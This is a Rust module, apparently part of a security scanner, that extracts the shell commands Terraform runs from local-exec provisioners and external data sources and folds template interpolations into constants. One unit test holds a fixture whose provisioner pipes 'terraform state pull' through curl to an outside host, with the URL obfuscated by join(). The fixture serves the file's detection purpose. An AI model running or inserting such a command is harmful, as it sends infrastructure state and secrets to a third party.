//! Round 40 (blind r40 tfstate-drift-watch): the commands Terraform runs
//! from its own files. A `provisioner "local-exec"` runs its `command` on
//! the machine that runs `terraform apply` (through its `interpreter`,
//! `/bin/sh -c` by default), and a `data "external"` source runs its
//! `program` argv at every plan: shell code handed to an interpreter, as a
//! CI `run:` step is. Projected line for line like every host format: a
//! heredoc command (`<<-EOT … EOT`) keeps its lines, a quoted one goes on
//! its `command =` line, a non-shell interpreter (`["python3", "-c"]`) is
//! the argv line that runs it. The template's own interpolations are
//! folded where constant: `${local.NAME}` and `${var.NAME}` through the
//! `locals` entry or the variable's `default` (`admin_attach::reference`,
//! folded by the token-level folder: `join("", ["https://", "drift", …])`),
//! `$${X}` is the shell's `${X}`; anything else (`${self.id}`,
//! `${path.module}`) is an unknown shell variable. `environment = { K =
//! "v" }` entries are exported before the command.

use super::Projection;
use crate::extract::data_manifest::matching;
use crate::extract::token_calls::{Vars, fold_code};

/// The blocks whose commands Terraform runs: `(opening, key holding the
/// code, the key is an argv list)`.
const RUNNERS: &[(&str, &str, bool)] = &[
    ("provisioner \"local-exec\"", "command", false),
    ("data \"external\"", "program", true),
];

/// Shells that take the command as a `-c` string.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ash", "ksh"];

/// Whether `text` (a `.tf`/`.hcl` file) has a block that runs commands.
pub fn runs_commands(text: &str) -> bool {
    RUNNERS.iter().any(|(open, ..)| text.contains(open))
}

/// Projects every command block of `text`.
pub fn project(text: &str, p: &mut Projection) {
    let b = text.as_bytes();
    // One line table for every block (counting newlines from the start per
    // block was quadratic in a file of many blocks).
    let index = crate::text::LineIndex::new(text);
    for (open, key, argv) in RUNNERS {
        for (at, _) in text.match_indices(open) {
            let Some(brace) = text[at..].find('{').map(|i| at + i) else {
                continue;
            };
            let Some(close) = matching(b, brace) else {
                continue;
            };
            let block = (brace, close);
            if *argv {
                program(text, &index, block, key, p);
            } else {
                command(text, &index, block, p);
            }
        }
    }
}

/// The byte after `KEY =` inside the block, at the start of a line.
fn key_value(text: &str, (open, close): (usize, usize), key: &str) -> Option<usize> {
    let mut at = open + 1;
    for line in text[open + 1..close].split_inclusive('\n') {
        let t = line.trim_start();
        if let Some(rest) = t.strip_prefix(key) {
            let r = rest.trim_start();
            if r.starts_with('=') && !r.starts_with("==") {
                let eq = at + (line.len() - r.len());
                return Some(eq + 1);
            }
        }
        at += line.len();
    }
    None
}

/// An HCL list of string literals (`["/bin/sh", "-c"]`), folded.
fn string_list(text: &str, from: usize, vars: &Vars) -> Option<Vec<String>> {
    let rest = text[from..].trim_start();
    let start = from + (text[from..].len() - rest.len());
    if !rest.starts_with('[') {
        return None;
    }
    let end = matching(text.as_bytes(), start)?;
    let inner = &text[start + 1..end];
    Some(
        crate::extract::data_policy::members(inner)
            .into_iter()
            .map(|m| {
                interpolate(
                    text,
                    &fold_code(m, vars).unwrap_or_else(|| "$TF_EXPR".into()),
                )
            })
            .collect(),
    )
}

/// `provisioner "local-exec" { command = …; interpreter = […] }`.
fn command(text: &str, index: &crate::text::LineIndex, block: (usize, usize), p: &mut Projection) {
    let vars = Vars::new();
    let Some(at) = key_value(text, block, "command") else {
        return;
    };
    let interp = key_value(text, block, "interpreter").and_then(|i| string_list(text, i, &vars));
    let shell = interp.as_ref().is_none_or(|argv| {
        argv.first().is_some_and(|a| {
            let name = a.rsplit(['/', '\\']).next().unwrap_or(a);
            SHELLS.contains(&name)
        })
    });
    // `environment = { K = "v" }`: exported before the command.
    let first = index.line_of(at);
    if let Some(env) = key_value(text, block, "environment") {
        let rest = text[env..].trim_start();
        let start = env + (text[env..].len() - rest.len());
        if rest.starts_with('{')
            && let Some(end) = matching(text.as_bytes(), start)
        {
            for l in text[start + 1..end].split(['\n', ',']) {
                let Some((k, v)) = l.split_once('=') else {
                    continue;
                };
                if let Some(v) = fold_code(v.trim(), &vars) {
                    p.export(first, k.trim().trim_matches('"'), &interpolate(text, &v));
                }
            }
        }
    }
    let rest = text[at..].trim_start_matches([' ', '\t']);
    if let Some(h) = rest.strip_prefix("<<") {
        // A heredoc: its lines are the command's lines.
        let h = h.strip_prefix('-').unwrap_or(h);
        let tag: String = h
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        if tag.is_empty() {
            return;
        }
        let body_start = match text[at..].find('\n') {
            Some(i) => at + i + 1,
            None => return,
        };
        let mut lines = Vec::new();
        let mut line = index.line_of(body_start);
        for l in text[body_start..block.1].split('\n') {
            if l.trim() == tag {
                break;
            }
            lines.push((line, interpolate(text, l)));
            line += 1;
        }
        if shell {
            for (n, l) in lines {
                p.put(n, &l);
            }
        } else if let Some(argv) = interp {
            let code: Vec<String> = lines.into_iter().map(|(_, l)| l).collect();
            let mut all = argv;
            all.push(code.join("\n"));
            p.put(first, &super::argv_line(&all));
        }
        return;
    }
    // A quoted command on its line.
    let Some(v) = fold_code(rest.lines().next().unwrap_or("").trim(), &vars) else {
        return;
    };
    let v = interpolate(text, &v.replace("\\n", "\n"));
    match interp {
        Some(mut argv) if !shell => {
            argv.push(v);
            p.put(first, &super::argv_line(&argv));
        }
        _ => {
            for l in v.split('\n') {
                p.put(first, l);
            }
        }
    }
}

/// `data "external" { program = ["python3", "${path.module}/x.py"] }`:
/// the argv as one shell line.
fn program(
    text: &str,
    index: &crate::text::LineIndex,
    block: (usize, usize),
    key: &str,
    p: &mut Projection,
) {
    let vars = Vars::new();
    let Some(at) = key_value(text, block, key) else {
        return;
    };
    if let Some(argv) = string_list(text, at, &vars)
        && !argv.is_empty()
    {
        p.put(index.line_of(at), &super::argv_line(&argv));
    }
}

/// The template's interpolations folded: `${local.X}`/`${var.X}` to
/// their constant value (else a shell variable that stands for it:
/// `${TF_VAR_X}`), `$${X}` to the shell's `${X}`, other expressions to an
/// unknown variable, `%{…}` directives dropped.
fn interpolate(text: &str, s: &str) -> String {
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let (mut i, mut from) = (0, 0);
    while i + 1 < b.len() {
        let c = b[i];
        if !matches!(c, b'$' | b'%') {
            i += 1;
            continue;
        }
        // `$${` / `%%{`: escaped, the shell's own text.
        if b[i + 1] == c && b.get(i + 2) == Some(&b'{') {
            out.push_str(&s[from..i + 1]);
            i += 2;
            from = i;
            continue;
        }
        if b[i + 1] != b'{' {
            i += 1;
            continue;
        }
        let Some(close) = s[i..].find('}').map(|k| i + k) else {
            break;
        };
        out.push_str(&s[from..i]);
        if c == b'$' {
            out.push_str(&value(text, s[i + 2..close].trim()));
        }
        i = close + 1;
        from = i;
    }
    out.push_str(&s[from..]);
    out
}

/// A template expression's constant value, or a shell variable that
/// stands for it.
fn value(text: &str, expr: &str) -> String {
    let folded = crate::extract::admin_attach::reference(text, expr)
        .and_then(|e| fold_code(e.trim(), &Vars::new()))
        .filter(|v| !v.contains("${"));
    if let Some(v) = folded {
        return v;
    }
    let name: String = expr
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
        .collect();
    format!("${{TF_{}}}", name.to_ascii_uppercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(text: &str) -> Vec<String> {
        super::super::projected(text, project)
    }

    #[test]
    fn a_heredoc_command_keeps_its_lines_with_locals_folded() {
        let tf = "locals {\n  ingest = join(\"\", [\"https://\", \"drift\", \"watch\", \".\", \"run\", \"/i/\"])\n}\nresource \"terraform_data\" \"r\" {\n  provisioner \"local-exec\" {\n    interpreter = [\"/bin/sh\", \"-c\"]\n    command     = <<-EOT\n      terraform state pull | curl -s --data-binary @- \"${local.ingest}$(hostname)\"\n      echo $${HOME} ${var.workspace}\n    EOT\n  }\n}\n";
        let l = lines(tf);
        assert!(
            l[7].contains("curl -s --data-binary @- \"https://driftwatch.run/i/$(hostname)\""),
            "{l:?}"
        );
        assert!(l[8].contains("echo ${HOME} ${TF_VAR_WORKSPACE}"), "{l:?}");
        assert!(l[0].is_empty() && l[9].is_empty());
    }

    #[test]
    fn quoted_commands_interpreters_and_external_programs() {
        let tf = "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"kubectl apply -f ${path.module}/app.yaml\"\n  }\n}\nresource \"null_resource\" \"b\" {\n  provisioner \"local-exec\" {\n    command = \"print(1)\"\n    interpreter = [\"python3\", \"-c\"]\n  }\n}\ndata \"external\" \"x\" {\n  program = [\"bash\", \"${path.module}/x.sh\"]\n}\n";
        let l = lines(tf);
        assert_eq!(l[2].trim(), "kubectl apply -f ${TF_PATH_MODULE}/app.yaml");
        assert_eq!(l[7].trim(), "python3 -c 'print(1)'");
        assert_eq!(l[12].trim(), "bash '${TF_PATH_MODULE}/x.sh'");
    }
}
